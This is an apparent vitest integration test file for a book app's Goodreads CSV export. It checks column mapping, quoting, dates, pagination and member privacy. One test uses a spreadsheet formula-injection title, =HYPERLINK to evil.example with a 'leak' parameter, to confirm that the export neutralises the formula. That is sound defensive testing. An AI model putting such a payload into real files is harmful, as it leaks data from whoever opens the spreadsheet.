import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { fromSpreadsheetText, GOODREADS_COLUMNS, type GoodreadsColumn } from '@starshelf/contract';
import { goodreadsExporter } from '../src/modules/reading-list/goodreads-export.js';
import { shelfItemsRepository } from '../src/modules/reading-list/shelf-items-repository.js';
import { signedInAgent } from './support/members.js';
import { useSuiteApp } from './support/suite.js';
import type { TestAgent } from './support/test-app.js';
import { createCatalogueDatabase, fixture } from './support/test-catalogue.js';

type ExportRow = Record<GoodreadsColumn, string>;

/** The file as any CSV reader sees it: the header, then one object per record keyed by it. */
function readCsv(text: string): { header: string[]; rows: ExportRow[] } {
  const [header = [], ...records] = parse(text) as string[][];
  const rows = records.map((record) => Object.fromEntries(header.map((column, index) => [column, record[index]])) as ExportRow);
  return { header, rows };
}

async function exportOf(agent: TestAgent) {
  const response = await agent.get('/api/reading-list/export?format=goodreads');
  expect(response.status).toBe(200);
  return { response, ...readCsv(response.text) };
}

describe('GET /api/reading-list/export (Goodreads library export)', () => {
  const suite = useSuiteApp(createCatalogueDatabase);
  let collins: number;
  const book = (data: Record<string, unknown>) => fixture(suite.database.payload, 'books', { authors: [collins], ...data });

  beforeAll(async () => {
    collins = await fixture(suite.database.payload, 'authors', { name: 'Suzanne Collins' });
  });

  /** Sets what the API does not write itself: the day the member added and finished the book. */
  async function setDates(userId: string, bookId: number, addedAt: string, finishedAt: string | null) {
    await suite.app.pool.query('update community.reading_list_entries set added_at = $3, finished_at = $4 where user_id = $1 and book_id = $2', [
      userId,
      bookId,
      addedAt,
      finishedAt,
    ]);
  }

  it('answers a CSV download whose header is exactly the Goodreads columns, in order', async () => {
    const { agent } = await signedInAgent(suite.app);
    const { response, header, rows } = await exportOf(agent);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="starshelf-goodreads-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(header).toEqual([...GOODREADS_COLUMNS]);
    expect(response.text.split('\n')[0]).toBe(GOODREADS_COLUMNS.join(','));
    expect(rows).toEqual([]);
  });

  it('writes a listed, rated and reviewed book with its edition, dates and paragraphs as Goodreads does', async () => {
    const { agent, user } = await signedInAgent(suite.app);
    const co = await fixture(suite.database.payload, 'authors', { name: 'Ursula K. Le Guin' });
    const bookId = await book({ title: 'The Hunger Games', authors: [collins, co], publicationYear: 2008, goodreadsBookId: 2767052 });
    await fixture(suite.database.payload, 'editions', {
      book: bookId,
      title: 'The Hunger Games',
      isbn: '9780439023481',
      publisher: 'Scholastic Press',
      pages: 374,
      publicationYear: 2009,
      bindingType: 'hardcover',
      languageCode: 'en',
      isPrimaryEdition: true,
    });
    expect((await agent.post('/api/reading-list').send({ bookId, status: 'read' })).status).toBe(201);
    const review = 'First paragraph,\nwith a line break.\n\nSecond paragraph.';
    expect((await agent.post(`/api/books/${bookId}/ratings`).send({ rating: 5, review })).status).toBe(200);
    await setDates(user.id, bookId, '2011-12-01T10:00:00Z', '2012-01-15T23:30:00Z');

    const { rows } = await exportOf(agent);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'Book Id': '2767052',
      Title: 'The Hunger Games',
      Author: 'Suzanne Collins',
      'Author l-f': 'Collins, Suzanne',
      'Additional Authors': 'Ursula K. Le Guin',
      ISBN: '="0439023483"',
      ISBN13: '="9780439023481"',
      'My Rating': '5',
      Publisher: 'Scholastic Press',
      Binding: 'Hardcover',
      'Number of Pages': '374',
      'Year Published': '2009',
      'Original Publication Year': '2008',
      'Date Read': '2012/01/15',
      'Date Added': '2011/12/01',
      Bookshelves: 'read',
      'Bookshelves with positions': 'read',
      'Exclusive Shelf': 'read',
      'My Review': 'First paragraph,<br/>with a line break.<br/><br/>Second paragraph.',
      Spoiler: '',
      'Private Notes': '',
      'Read Count': '1',
      'Owned Copies': '0',
    });
    expect(Number(rows[0]!['Average Rating'])).toBeGreaterThan(0);
    expect(rows[0]!['Average Rating']).toMatch(/^\d\.\d{2}$/);
  });

  it('puts a rated book that is not on the list on the read shelf, added the day it was rated', async () => {
    const { agent, user } = await signedInAgent(suite.app);
    const bookId = await book({ title: 'Catching Fire' });
    await agent.post(`/api/books/${bookId}/ratings`).send({ rating: 3 });
    await suite.app.pool.query("update community.book_ratings set created_at = '2020-03-04T12:00:00Z' where user_id = $1 and book_id = $2", [user.id, bookId]);

    const { rows } = await exportOf(agent);
    expect(rows).toEqual([
      expect.objectContaining({
        Title: 'Catching Fire',
        'My Rating': '3',
        'Exclusive Shelf': 'read',
        Bookshelves: 'read',
        'Read Count': '1',
        'Date Added': '2020/03/04',
        'Date Read': '',
        'My Review': '',
      }),
    ]);
  });

  it('writes the shelves of unrated books with rating 0, no read count and empty ISBN formulas when there is no edition', async () => {
    const { agent, user } = await signedInAgent(suite.app);
    const reading = await book({ title: 'Mockingjay', averageRating: 4.1, ratingsCount: 3 });
    const toRead = await book({ title: 'Sunrise on the Reaping' });
    await agent.post('/api/reading-list').send({ bookId: reading, status: 'reading' });
    await agent.post('/api/reading-list').send({ bookId: toRead });
    await setDates(user.id, toRead, '2024-02-29T23:59:59Z', null);

    const { response, rows } = await exportOf(agent);
    expect(rows.map((row) => [row.Title, row['Exclusive Shelf'], row['My Rating'], row['Read Count']])).toEqual([
      ['Mockingjay', 'currently-reading', '0', '0'],
      ['Sunrise on the Reaping', 'to-read', '0', '0'],
    ]);
    expect(rows[0]).toMatchObject({ 'Average Rating': '4.10', ISBN: '=""', ISBN13: '=""', Binding: '', Publisher: '' });
    expect(rows[1]!['Date Added']).toBe('2024/02/29');
    // Quoted as Goodreads quotes them: the formula's quotes doubled inside a quoted cell.
    expect(response.text).toContain(',"=""""","=""""",0,');
  });

  it('names an edition with an ISBN, English before other languages, with its Goodreads id, and leaves out books gone from the catalogue', async () => {
    const { agent } = await signedInAgent(suite.app);
    const edition = (bookId: number, data: Record<string, unknown>) =>
      fixture(suite.database.payload, 'editions', { book: bookId, title: 'Edition', publicationYear: 2001, ...data });
    const translated = await book({ title: 'Translated', goodreadsBookId: 1 });
    await edition(translated, { isbn: '9783453000001', languageCode: 'de', isPrimaryEdition: true, bindingType: 'broschiert' });
    await edition(translated, { isbn: '0-8044-2957-X', languageCode: 'en', bindingType: 'paperback', publisher: 'Ungar', goodreadsBookId: 42 });
    const withoutIsbn = await book({ title: 'Primary Without ISBN', publisher: 'Book Publisher', pages: 99 });
    await edition(withoutIsbn, { languageCode: 'en', isPrimaryEdition: true, bindingType: 'ebook' });
    await edition(withoutIsbn, { isbn: '9791032705285', languageCode: 'fr', bindingType: 'audiobook' });
    const gone = await book({ title: 'Gone From The Catalogue' });
    for (const bookId of [translated, withoutIsbn, gone]) await agent.post('/api/reading-list').send({ bookId });
    await suite.database.payload.delete({ collection: 'books', id: gone, overrideAccess: true });

    const { rows } = await exportOf(agent);
    expect(rows.map((row) => [row['Book Id'], row.Title, row.ISBN, row.ISBN13, row.Binding, row.Publisher, row['Number of Pages']])).toEqual([
      ['42', 'Translated', '="080442957X"', '="9780804429573"', 'Paperback', 'Ungar', ''],
      ['', 'Primary Without ISBN', '=""', '="9791032705285"', 'Audiobook', 'Book Publisher', '99'],
    ]);
  });

  it('quotes a title with a comma and a quote so that parsing the file gives it back', async () => {
    const { agent } = await signedInAgent(suite.app);
    const title = 'Tell Me "Why", Then';
    const bookId = await book({ title });
    await agent.post('/api/reading-list').send({ bookId });
    const { response, rows } = await exportOf(agent);
    expect(response.text).toContain('"Tell Me ""Why"", Then"');
    expect(rows[0]!.Title).toBe(title);
  });

  it('writes free text that a spreadsheet would run as text, and the import takes the mark off again (decision 080)', async () => {
    const { agent } = await signedInAgent(suite.app);
    const title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    const bookId = await book({ title });
    const review = '- loved the ending\n- hated the middle';
    await agent.post('/api/reading-list').send({ bookId, status: 'read' });
    await agent.post(`/api/books/${bookId}/ratings`).send({ rating: 2, review });

    const { rows } = await exportOf(agent);
    const row = rows[0]!;
    for (const cell of Object.values(row).filter((value) => !value.startsWith('="'))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row.Title).toBe(`'${title}`);
    expect(fromSpreadsheetText(row.Title)).toBe(title);
    expect(fromSpreadsheetText(row['My Review'])).toBe('- loved the ending<br/>- hated the middle');
  });

  it("never writes another member's books, ratings or reviews", async () => {
    const me = await signedInAgent(suite.app);
    const other = await signedInAgent(suite.app);
    const mine = await book({ title: 'Mine Alone' });
    const theirs = await book({ title: 'Theirs Alone' });
    await me.agent.post('/api/reading-list').send({ bookId: mine });
    await me.agent.post(`/api/books/${mine}/ratings`).send({ rating: 4, review: 'My words.' });
    await other.agent.post('/api/reading-list').send({ bookId: mine, status: 'read' });
    await other.agent.post(`/api/books/${mine}/ratings`).send({ rating: 1, review: 'Their words.' });
    await other.agent.post(`/api/books/${theirs}/ratings`).send({ rating: 5 });

    const { response, rows } = await exportOf(me.agent);
    expect(rows.map((row) => [row.Title, row['My Rating'], row['Exclusive Shelf'], row['My Review']])).toEqual([['Mine Alone', '4', 'to-read', 'My words.']]);
    expect(response.text).not.toContain('Their');
  });

  it('reads a long shelf page by page without losing or repeating a book', async () => {
    const { agent, user } = await signedInAgent(suite.app);
    const ids: number[] = [];
    for (const title of ['Page One', 'Page Two', 'Page Three', 'Page Four', 'Page Five']) ids.push(await book({ title }));
    // Listed, rated only, listed: the two tables interleave across the page boundaries.
    for (const [index, bookId] of ids.entries()) {
      if (index % 2 === 0) await agent.post('/api/reading-list').send({ bookId });
      else await agent.post(`/api/books/${bookId}/ratings`).send({ rating: 4 });
    }
    const records: string[][] = [];
    for await (const record of await goodreadsExporter(shelfItemsRepository(suite.app.pool), 2).open(user.id)) records.push([...record]);
    expect(records[0]).toEqual([...GOODREADS_COLUMNS]);
    expect(records.slice(1).map((record) => record[1])).toEqual(['Page One', 'Page Two', 'Page Three', 'Page Four', 'Page Five']);
  });

  it('refuses a signed-out caller with 401 and an unknown format with 400', async () => {
    const signedOut = await suite.app.agent().get('/api/reading-list/export');
    expect(signedOut.status).toBe(401);
    expect(signedOut.body.error.code).toBe('UNAUTHENTICATED');
    const { agent } = await signedInAgent(suite.app);
    const badFormat = await agent.get('/api/reading-list/export?format=storygraph');
    expect(badFormat.status).toBe(400);
    expect(badFormat.body.error.code).toBe('VALIDATION_FAILED');
    expect((await agent.get('/api/reading-list/export')).status).toBe(200);
  });
});
